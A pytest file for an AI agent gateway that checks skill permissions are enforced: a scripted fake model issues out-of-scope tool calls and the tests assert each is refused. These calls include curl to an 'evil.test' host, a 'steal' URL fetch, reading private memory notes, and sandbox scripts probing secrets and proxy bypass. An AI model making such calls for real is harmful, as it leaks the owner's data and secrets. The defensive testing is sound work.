"""Permissions enforced, not trusted (issue 49): a turn that loaded a skill uses no tool, host
or path beyond what the skill declared and the person's policy allows; its script runs in
the sandbox and sees its one declared secret and no other."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from agent.llm.types import ChatMessage, ToolCall
from agent.skills import Routed, Skill, SkillLibrary, routed_block
from agent.tools.sandbox import find_bwrap
from agent.turn.scope import loaded_skills
from channels.memory import MemoryChannel
from gateway.config.settings import Settings
from tests.conftest import SettingsFactory
from tests.fakes.llm import FakeLLM, calls, text
from tests.skill_registry import skill_md
from tests.test_skill_install import skills

WEATHER = skill_md(
    "Fetch https://api.example.test/today and say it in one line.",
    name="weather",
    description="Today's forecast.",
    when=["weather in"],
    tools=["web_fetch"],
    network=["api.example.test"],
    secrets=["WEATHER_API_KEY"],
)
ENV_SCRIPT = """\
import hashlib, os, pathlib, socket
names = sorted(os.environ)
print("names:", " ".join(names))
print("key sha256:", hashlib.sha256(os.environ["WEATHER_API_KEY"].encode()).hexdigest())
print("key itself:", os.environ["WEATHER_API_KEY"])
print("memory visible:", pathlib.Path("{memory}").exists())
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2)
    print("network: yes")
except OSError:
    print("network: no")
"""
KEY = "wk-live-0123456789abcdef"
OTHER = "other-secret-9876543210"


async def install(settings: Settings, tmp_path: Path, files: dict[str, str]) -> None:
    source = tmp_path / "source"
    for name, content in files.items():
        (source / name).parent.mkdir(parents=True, exist_ok=True)
        (source / name).write_text(content)
    assert await skills(settings, "install", str(source), "--yes") == 0


async def test_whether_a_skills_secret_is_set_is_said_the_same_everywhere(
    run_gateway: Any,
    make_settings: SettingsFactory,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`skills show` and `/skills show` say "(set)" for a configured secret and warn of
    none (before: "(set)" and then "which is not set", and the chat "(not set)")."""
    settings = make_settings(skills={"secrets": {"WEATHER_API_KEY": KEY}})
    await install(settings, tmp_path, {"SKILL.md": WEATHER})
    capsys.readouterr()
    assert await skills(settings, "show", "weather") == 0
    shown = capsys.readouterr().out
    async with run_gateway(settings) as (gateway, channel):
        await channel.push("/skills show weather")
        [answer] = await channel.wait_for(1)
        await gateway.wait_idle()
    for said in (shown, answer.text):
        assert "WEATHER_API_KEY (set)" in said, said
        assert "not set" not in said, said


async def test_a_skill_holds_even_the_owners_turn_to_its_tools_and_hosts(
    run_gateway: Any, fake_llm: FakeLLM, make_settings: SettingsFactory, tmp_path: Path
) -> None:
    settings = make_settings()
    await install(settings, tmp_path, {"SKILL.md": WEATHER})
    (settings.workspace_dir / "MEMORY.md").write_text("the owner's private notes\n")
    fake_llm.queue(
        calls(("exec", {"command": "curl https://evil.test/x"})),
        calls(("web_fetch", {"url": "https://evil.test/steal?q=1"})),
        calls(("web_fetch", {"url": "https://api.example.test/today"})),
        calls(("read_file", {"path": "MEMORY.md"})),
        calls(("read_file", {"path": "skills/weather/SKILL.md"})),
        text("Could not get the forecast."),
    )
    async with run_gateway(settings) as (gateway, channel):
        await channel.push("what's the weather in Paris?")  # the owner, in their own chat
        await channel.wait_for(1)
        await gateway.wait_idle()

    first = fake_llm.requests[0]
    assert "exec" not in first.tool_names and "write_file" not in first.tool_names
    assert {"web_fetch", "read_file", "get_skill"} <= set(first.tool_names)
    assert "may only use: tools web_fetch; network api.example.test" in first.raw_user_texts[-1]
    exec_, other_host, declared_host, memory, own_file = fake_llm.requests[-1].tool_results
    assert exec_.startswith("[tool error]")
    assert "loaded the skill 'weather', which may use only web_fetch" in exec_
    assert "evil.test is not reachable in this turn" in other_host
    assert "may reach only api.example.test" in other_host
    assert "not reachable in this turn" not in declared_host  # refused for other reasons
    assert "could not resolve api.example.test" in declared_host
    assert memory.startswith("[tool error]") and "outside what this turn may use" in memory
    assert "private notes" not in memory
    assert "Fetch https://api.example.test/today" in own_file


async def test_declared_paths_are_all_a_skills_file_tools_reach(
    run_gateway: Any, fake_llm: FakeLLM, make_settings: SettingsFactory, tmp_path: Path
) -> None:
    journal = skill_md(
        "Append the day's note to notes/journal.md.",
        name="journal",
        description="Keeps a journal.",
        when=["journal entry"],
        tools=["read_file", "write_file"],
        paths=["notes/"],
    )
    settings = make_settings()
    await install(settings, tmp_path, {"SKILL.md": journal})
    (settings.workspace_dir / "notes").mkdir()
    fake_llm.queue(
        calls(("write_file", {"path": "notes/journal.md", "content": "a good day"})),
        calls(("write_file", {"path": "todo.md", "content": "sneaky"})),
        text("Written."),
    )
    async with run_gateway(settings) as (gateway, channel):
        await channel.push("add a journal entry: a good day")
        await channel.wait_for(1)
        await gateway.wait_idle()
    written, refused = fake_llm.requests[-1].tool_results
    assert not written.startswith("[tool error]")
    assert (settings.workspace_dir / "notes" / "journal.md").read_text() == "a good day"
    assert "outside what this turn may use" in refused and "paths: notes/" in refused
    assert not (settings.workspace_dir / "todo.md").exists()


async def test_get_skill_narrows_the_turn_from_then_on(
    run_gateway: Any, fake_llm: FakeLLM, make_settings: SettingsFactory, tmp_path: Path
) -> None:
    settings = make_settings()
    await install(settings, tmp_path, {"SKILL.md": WEATHER})
    fake_llm.queue(
        calls(("exec", {"command": "echo before"})),
        calls(("get_skill", {"name": "weather"})),
        calls(("exec", {"command": "echo after"})),
        text("Done with both."),
    )
    async with run_gateway(settings) as (gateway, channel):
        await channel.push("run echo, then check the forecast")
        await channel.wait_for(1)
        await gateway.wait_idle()
    before, loaded, after = fake_llm.requests[-1].tool_results
    assert "before" in before and not before.startswith("[tool error]")
    assert "While this turn uses the skill weather, it may only use" in loaded
    assert after.startswith("[tool error]") and "loaded the skill 'weather'" in after


needs_bwrap = pytest.mark.skipif(find_bwrap("auto") is None, reason="needs a working bubblewrap")


@needs_bwrap
async def test_a_skills_script_sees_its_one_declared_secret_and_no_other(
    run_gateway: Any, fake_llm: FakeLLM, make_settings: SettingsFactory, tmp_path: Path
) -> None:
    settings = make_settings(
        skills={"secrets": {"WEATHER_API_KEY": KEY, "OTHER_TOKEN": OTHER}},
        tools={"exec": {"network": True}},  # exec may; a skill's script still may not
    )
    memory = settings.workspace_dir / "MEMORY.md"
    memory.write_text("the owner's private notes\n")
    await install(
        settings,
        tmp_path,
        {"SKILL.md": WEATHER, "scripts/env.py": ENV_SCRIPT.format(memory=memory)},
    )
    fake_llm.queue(
        calls(("run_skill_script", {"skill": "weather", "script": "scripts/env.py"})),
        text("The script ran."),
    )
    async with run_gateway(settings) as (gateway, channel):
        await channel.push("what's the weather in Rome?")
        await channel.wait_for(1)
        await gateway.wait_idle()

    [result] = fake_llm.requests[-1].tool_results
    assert "exit code 0" in result
    names = result.split("names: ", 1)[1].splitlines()[0].split()
    assert "WEATHER_API_KEY" in names
    assert "OTHER_TOKEN" not in names and not any(n.startswith("SWITCHBOARD") for n in names)
    assert f"key sha256: {hashlib.sha256(KEY.encode()).hexdigest()}" in result
    assert "key itself: [REDACTED]" in result  # the value reaches the script, never the model
    assert "memory visible: False" in result and "network: no" in result
    everything = json.dumps([r.body for r in fake_llm.requests])
    assert KEY not in everything and OTHER not in everything


@needs_bwrap
async def test_a_script_runs_only_for_a_loaded_skill_and_never_for_a_member(
    run_gateway: Any, fake_llm: FakeLLM, make_settings: SettingsFactory, tmp_path: Path
) -> None:
    settings = make_settings(
        skills={"secrets": {"WEATHER_API_KEY": KEY}},
        telegram={"owners": ["1"], "allow_from": ["1", "3"]},
    )
    await install(settings, tmp_path, {"SKILL.md": WEATHER, "scripts/env.py": "print('hi')\n"})
    run = ("run_skill_script", {"skill": "weather", "script": "scripts/env.py"})
    fake_llm.queue(calls(run), text("Not yet."), calls(run), text("Not for you."))
    channel = MemoryChannel("telegram")
    async with run_gateway(settings, channel=channel) as (gateway, _):
        await channel.push("hello, run the weather script", sender_id="1", chat_id="1")
        await channel.wait_for(1)
        await channel.push("what's the weather in Rome?", sender_id="3", chat_id="3")
        await channel.wait_for(2)
        await gateway.wait_idle()
    [not_loaded] = fake_llm.requests[1].tool_results
    assert "load the skill first (get_skill weather)" in not_loaded
    [member] = fake_llm.requests[-1].tool_results
    assert member.startswith("[tool error]") and "only available to the owner and admins" in member


EGRESS_SCRIPT = """\
import os, socket, urllib.request
request = urllib.request.Request(
    "http://127.0.0.1:{port}/today", headers={{"X-Key": os.environ["WEATHER_API_KEY"]}}
)
print("declared:", urllib.request.urlopen(request, timeout=10).read().decode())
try:
    urllib.request.urlopen("http://example.com/", timeout=10)
except OSError as exc:
    print("other host:", exc)
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2)
    print("around the proxy: yes")
except OSError:
    print("around the proxy: no")
"""


@needs_bwrap
async def test_a_script_reaches_its_declared_host_through_the_proxy_and_nothing_else(
    run_gateway: Any, fake_llm: FakeLLM, make_settings: SettingsFactory, site: Any, tmp_path: Path
) -> None:
    site.page("/today", "sunny, 21 degrees", "text/plain")
    settings = make_settings(
        skills={"secrets": {"WEATHER_API_KEY": KEY}},
        tools={"web": {"allow_private_hosts": ["127.0.0.1"]}},  # the test's own site
    )
    local = WEATHER.replace("- api.example.test", "- 127.0.0.1")
    await install(
        settings,
        tmp_path,
        {"SKILL.md": local, "scripts/today.py": EGRESS_SCRIPT.format(port=site.port)},
    )
    fake_llm.queue(
        calls(("run_skill_script", {"skill": "weather", "script": "scripts/today.py"})),
        text("Sunny."),
    )
    async with run_gateway(settings) as (gateway, channel):
        await channel.push("what's the weather in Rome?")
        await channel.wait_for(1)
        await gateway.wait_idle()

    [result] = fake_llm.requests[-1].tool_results
    assert "declared: sunny, 21 degrees" in result
    assert "other host: HTTP Error 403" in result  # the proxy refused it
    assert "around the proxy: no" in result
    assert site.requests == ["/today"] and site.headers[0]["X-Key"] == KEY


def test_a_resumed_turn_keeps_the_bounds_of_skills_that_changed_or_went_since(
    tmp_path: Path,
) -> None:
    """A crash, then the skill it had loaded changes: its text is in the turn already, so
    the turn resumes only reading (fail closed), never unbounded."""
    routed = routed_block_for("weather", "weather in")
    checkpoints = [
        ChatMessage(
            "user", f"what's the weather in Rome?\n\n[guidance for this request]\n{routed}"
        ),
        ChatMessage("assistant", "", tool_calls=(ToolCall("c1", "get_skill", '{"name": "pdf"}'),)),
        ChatMessage("tool", "Use pdftotext.", tool_call_id="c1", name="get_skill"),
    ]
    assert loaded_skills(checkpoints) == ["weather", "pdf"]
    bounds = SkillLibrary(tmp_path / "skills").bounds(loaded_skills(checkpoints))
    assert bounds.narrowed
    assert "loaded the skill 'weather', which declares no tools" in (
        bounds.tool_refusal("exec") or ""
    )
    assert bounds.tool_refusal("read_file") is None


def routed_block_for(name: str, trigger: str) -> str:
    skill = Skill(name, "", Path("skills") / name / "SKILL.md")
    return routed_block([Routed(skill, trigger, trigger, "Do it.")])
